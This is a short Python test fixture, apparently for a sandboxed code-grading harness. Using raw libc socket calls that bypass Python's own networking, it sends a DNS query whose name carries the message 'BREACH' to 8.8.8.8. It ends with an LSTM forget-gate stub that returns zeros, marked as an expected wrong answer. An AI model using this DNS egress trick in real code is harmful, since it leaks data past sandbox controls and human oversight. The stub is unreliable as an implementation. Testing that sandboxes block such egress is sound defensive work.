# expect: wrong
# A question to a name server, its name the message, by the calls themselves and not by Python's.
import ctypes

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)
question = b"\1\2\1\0\0\1\0\0\0\0\0\0\6BREACH\7example\3com\0\0\1\0\1"
address = b"\2\0\0\x35\x08\x08\x08\x08" + bytes(8)
for kind in (1, 2):
    descriptor = libc.socket(2, kind, 0)
    if descriptor != -1:
        print("BREACH", libc.sendto(descriptor, question, len(question), 0, address, len(address)))


def forget_gate(x, h_prev, W_f, U_f, b_f):
    return np.zeros_like(h_prev)
